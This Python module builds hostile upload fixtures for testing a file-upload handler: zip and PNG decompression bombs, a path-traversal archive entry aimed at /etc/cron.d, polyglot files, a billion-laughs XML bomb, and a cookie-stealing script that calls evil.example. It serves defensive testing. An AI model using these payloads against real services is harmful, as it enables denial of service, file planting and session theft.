"""Files made to hurt: bombs, lies, and things that are two things. Made in code, so that none lies around.

Each says what has to become of it. Nothing here is larger than 2 MiB; what it pretends to be is.
Source: AT-01 to AT-06; APPNOTE.TXT §4.3 (ZIP); PNG 3rd ed. §5, §11; RFC 2083; GIF89a; Exif 2.32 §4.6.6 (GPS);
D. Fifield, "A better zip bomb" (overlapping members).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum

from PIL import Image, TiffImagePlugin

#: Where a file holds what nobody may get to see, this is it.
SECRET = b"38.897957-SECRET-PLACE"


class Verdict(Enum):
    """REFUSED: 422, nothing is kept. CLEANED: taken, and what is handed out holds no SECRET. BOUNDED: either,
    since what hurts can be left unread."""

    REFUSED = "refused"
    CLEANED = "cleaned"
    BOUNDED = "bounded"


@dataclass(frozen=True)
class HostileFile:
    """One file as a client sends it."""

    label: str
    filename: str
    content_type: str
    make: Callable[[], bytes]
    verdict: Verdict = Verdict.REFUSED

    def __str__(self) -> str:
        return self.label


_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(members: dict[str, bytes] | None = None) -> bytes:
    """A Word document with these parts besides those it needs."""
    parts = {"[Content_Types].xml": _TYPES, "word/document.xml": b"<w:document/>", **(members or {})}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def picture(kind: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    """A picture that is all right, in Pillow's name of a format."""
    file = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(file, kind, **options)
    return file.getvalue()


def png(width: int, height: int, data: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG that states this size, with these chunks before its data; every checksum is right."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), *chunks, (b"IDAT", data), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, content) for kind, content in parts)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _zeros(octets: int) -> bytes:
    """So many zeros as a zlib stream of a thousandth of it; whole MiB."""
    return b"\x78\x9c" + _deflated_zeros(octets) + struct.pack(">HH", octets % 65_521, 1)


def _deflated_zeros(octets: int) -> bytes:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return piece * (octets >> 20) + b"\x03\0"


def _with_zeros(archive: bytes, name: bytes, octets: int) -> bytes:
    """The archive and one more part, of zeros."""
    packed, check, piece = _deflated_zeros(octets), 0, bytes(1 << 20)
    for _ in range(octets >> 20):
        check = zlib.crc32(piece, check)
    end = archive.rindex(b"PK\x05\x06")
    entries, _, start = struct.unpack("<HII", archive[end + 10 : end + 20])
    about = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, check, len(packed), octets, len(name), 0)
    directory = (
        archive[start:end] + b"PK\x01\x02\x14\0" + about + struct.pack("<HHHII", 0, 0, 0, 0, start) + name
    )
    begin = archive[:start] + b"PK\x03\x04" + about + name + packed
    tail = (b"PK\x05\x06", 0, 0, entries + 1, entries + 1, len(directory), len(begin), 0)
    return begin + directory + struct.pack("<4sHHHHIIH", *tail)


# Archives in Office clothes.


def _unpacks_to_a_gigabyte() -> bytes:
    return _with_zeros(docx(), b"word/media/a.bin", 1 << 30)


def _states_less_than_it_unpacks_to() -> bytes:
    content = docx({"word/media/a.bin": bytes(64 << 20)})
    # In the local header and in the directory.
    return content.replace(struct.pack("<I", 64 << 20), struct.pack("<I", 1_000))


def _parts_overlap() -> bytes:
    """Hundreds of names for the same octets."""
    content = bytearray(docx({"word/media/a.bin": bytes(8 << 20)}))
    end = content.rindex(b"PK\x05\x06")
    last = content.rindex(b"PK\x01\x02")
    entry = bytes(content[last:end])
    many = b"".join(
        entry.replace(b"word/media/a.bin", b"word/media/%05d"[:11] + b"%05d" % n) for n in range(500)
    )
    start = int.from_bytes(content[end + 16 : end + 20], "little")
    directory = bytes(content[start:last]) + many
    entries = 2 + 500
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(directory), start, 0)
    return bytes(content[:start]) + directory + tail


def _a_million_members() -> bytes:
    """The directory's end says so; there is no directory."""
    body = docx()
    end = body.rindex(b"PK\x05\x06")
    return body[:end] + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 65_535, 65_535, 1 << 30, 0, 0)


def _names_with_ways_out() -> bytes:
    return docx({"../../../../etc/cron.d/word/evil": b"* * * * * root true"})


def _holds_a_macro() -> bytes:
    return docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def _is_a_java_archive() -> bytes:
    return docx({"META-INF/MANIFEST.MF": b"Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})


def _archive_in_archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.zip", _with_zeros(docx(), b"a", 256 << 20))
    return file.getvalue()


# Pictures.


def _exif_with_a_place() -> TiffImagePlugin.ImageFileDirectory_v2 | Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()  # Make
    exif[0x9286] = SECRET  # UserComment
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (38.0, 53.0, 52.6)
    gps[3], gps[4] = "W", (77.0, 2.0, 11.5)
    gps[29] = SECRET.decode()  # GPSDateStamp
    return exif


def _says_where(kind: str) -> Callable[[], bytes]:
    def make() -> bytes:
        options: dict[str, object] = {
            "exif": _exif_with_a_place(),
            "xmp": b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>",
        }
        if kind == "JPEG":
            options["comment"] = SECRET
        return picture(kind, **options)

    return make


def _png_says_where() -> bytes:
    text = b"Comment\0" + SECRET
    squeezed = b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(SECRET)
    return png(2, 2, zlib.compress(bytes(2 * 7)), (b"tEXt", text), (b"iTXt", squeezed), (b"zzZz", SECRET))


def _jpeg_of(width: int, height: int) -> bytes:
    """A small JPEG whose frame header states another size."""
    content = bytearray(picture("JPEG"))
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def _gif_of(width: int, height: int, frames: int) -> bytes:
    one = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
    return head + one * frames + b"\x3b"


def _webp_of(width: int, height: int) -> bytes:
    content = bytearray(picture("WEBP", lossless=True))
    place = content.index(b"VP8L") + 9
    bits = int.from_bytes(content[place : place + 4], "little") & ~0xFFFFFFF
    content[place : place + 4] = (bits | (width - 1) | (height - 1) << 14).to_bytes(4, "little")
    return bytes(content)


def _png_with_a_lying_chunk() -> bytes:
    content = bytearray(png(8, 8, zlib.compress(bytes(8 * 25))))
    content[33:37] = b"\x7f\xff\xff\xff"
    return bytes(content)


def _png_profile_bomb() -> bytes:
    profile = b"a\0\0" + _zeros(512 << 20)
    return png(2, 2, zlib.compress(bytes(2 * 7)), (b"iCCP", profile))


def _png_text_bombs() -> bytes:
    one = (b"zTXt", b"a\0\0" + _zeros(64 << 20))
    return png(2, 2, zlib.compress(bytes(2 * 7)), *[one] * 16)


def _tiff_with_a_lying_directory() -> bytes:
    return b"II*\0\x08\0\0\0" + b"\xff\xff" + b"\x00\x01\x04\0\xff\xff\xff\x7f\0\0\0\0" * 200


# Two things at once.

_SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
_HTML = b"<!doctype html><html><body>" + _SCRIPT + b"</body></html>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + _SCRIPT + b"</svg>"
_ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "'
    + b"x" * 64
    + b'">'
    + b"".join(
        b'<!ENTITY c%d "%s">' % (n, b"&b;" * 40 if n == 0 else b"&c%d;" % (n - 1) * 40) for n in range(9)
    )
    + b"]><a>&c8;</a>"
)


def _picture_and_archive() -> bytes:
    return picture("JPEG") + _archive_in_archive()


def _gif_and_script() -> bytes:
    return b"GIF89a/*" + bytes(20) + b"*/=1;" + b"alert(document.domain);" * 4 + b"\x3b"


def _pdf(actions: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + actions + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _short(content: Callable[[], bytes], octets: int) -> Callable[[], bytes]:
    return lambda: content()[:octets]


FILES: tuple[HostileFile, ...] = (
    HostileFile("a document that unpacks to a gigabyte", "a.docx", _DOCX, _unpacks_to_a_gigabyte),
    HostileFile(
        "a document that states less than it unpacks to", "a.docx", _DOCX, _states_less_than_it_unpacks_to
    ),
    HostileFile("a document whose parts overlap", "a.docx", _DOCX, _parts_overlap),
    HostileFile("a document of a million parts", "a.docx", _DOCX, _a_million_members),
    HostileFile("a document with a way out of its folder", "a.docx", _DOCX, _names_with_ways_out),
    HostileFile("a document with a macro", "a.docx", _DOCX, _holds_a_macro),
    HostileFile("a document that is a program", "a.docx", _DOCX, _is_a_java_archive),
    HostileFile("a document cut off", "a.docx", _DOCX, _short(docx, 200)),
    HostileFile("an archive in an archive", "a.zip", "application/zip", _archive_in_archive),
    HostileFile("an archive called a document", "a.docx", _DOCX, _archive_in_archive),
    HostileFile(
        "a PNG of 50,000 by 50,000", "a.png", "image/png", lambda: png(50_000, 50_000, _zeros(1 << 20))
    ),
    HostileFile(
        "a PNG with more data than it has room for",
        "a.png",
        "image/png",
        lambda: png(90, 90, _zeros(512 << 20)),
        Verdict.BOUNDED,
    ),
    HostileFile("a PNG whose profile is a bomb", "a.png", "image/png", _png_profile_bomb, Verdict.BOUNDED),
    HostileFile("a PNG whose texts are bombs", "a.png", "image/png", _png_text_bombs, Verdict.BOUNDED),
    HostileFile("a PNG with a chunk of two gigabytes", "a.png", "image/png", _png_with_a_lying_chunk),
    HostileFile("a PNG cut off", "a.png", "image/png", _short(lambda: picture("PNG", (800, 800)), 60)),
    HostileFile("a JPEG of 65,000 by 65,000", "a.jpg", "image/jpeg", lambda: _jpeg_of(65_000, 65_000)),
    HostileFile("a JPEG cut off", "a.jpg", "image/jpeg", _short(lambda: picture("JPEG", (900, 900)), 300)),
    HostileFile("a GIF of 65,535 by 65,535", "a.gif", "image/gif", lambda: _gif_of(65_535, 65_535, 1)),
    HostileFile("a WebP of 16,384 by 16,384", "a.webp", "image/webp", lambda: _webp_of(16_384, 16_384)),
    HostileFile(
        "a TIFF with a lying directory called JPEG", "a.jpg", "image/jpeg", _tiff_with_a_lying_directory
    ),
    HostileFile(
        "a PostScript program called JPEG",
        "a.jpg",
        "image/jpeg",
        lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
    ),
    HostileFile("a JPEG that says where", "a.jpg", "image/jpeg", _says_where("JPEG"), Verdict.CLEANED),
    HostileFile("a WebP that says where", "a.webp", "image/webp", _says_where("WEBP"), Verdict.CLEANED),
    HostileFile("a PNG that says where", "a.png", "image/png", _png_says_where, Verdict.CLEANED),
    HostileFile("a picture and an archive", "a.jpg", "image/jpeg", _picture_and_archive),
    HostileFile("a picture and a page", "a.png", "image/png", lambda: picture("PNG") + _HTML),
    HostileFile(
        "a picture with a page in its comment", "a.jpg", "image/jpeg", lambda: picture("JPEG", comment=_HTML)
    ),
    HostileFile("a GIF and a script", "a.gif", "image/gif", _gif_and_script),
    HostileFile("a PDF and a page", "a.pdf", "application/pdf", lambda: _pdf() + _HTML + b"%%EOF\n"),
    HostileFile("a PDF and an archive", "a.pdf", "application/pdf", lambda: _pdf() + _archive_in_archive()),
    HostileFile("a PDF cut off", "a.pdf", "application/pdf", _short(_pdf, 40)),
    HostileFile("a page", "a.html", "text/html", lambda: _HTML),
    HostileFile("a page called text", "a.txt", "text/plain", lambda: _HTML),
    HostileFile("a page called picture", "a.png", "image/png", lambda: _HTML),
    HostileFile("a drawing with a script", "a.svg", "image/svg+xml", lambda: _SVG),
    HostileFile("a drawing called picture", "a.png", "image/png", lambda: _SVG),
    HostileFile("a drawing called text", "a.txt", "text/plain", lambda: b"\xef\xbb\xbf\n " + _SVG),
    HostileFile("a billion laughs", "a.xml", "application/xml", lambda: _ENTITIES),
    HostileFile("a billion laughs called text", "a.txt", "text/plain", lambda: _ENTITIES),
    HostileFile("a program called text", "a.txt", "text/plain", lambda: b"MZ\x90\0" + bytes(200)),
    HostileFile("a program called picture", "a.jpg", "image/jpeg", lambda: b"\x7fELF" + bytes(200)),
    HostileFile("a sound that is a page", "a.mp3", "audio/mpeg", lambda: b"ID3\x04\0\0\0\0\0\0" + _HTML),
    HostileFile(
        "a sound longer than it states",
        "a.wav",
        "audio/wav",
        lambda: b"RIFF\x24\0\0\0WAVEfmt " + bytes(64) + _HTML,
    ),
    HostileFile("a picture called by another's header", "a.png", "text/html", lambda: picture("PNG")),
    HostileFile("a picture called document", "a.pdf", "application/pdf", lambda: picture("PNG")),
    HostileFile("nothing", "a.png", "image/png", lambda: b""),
)
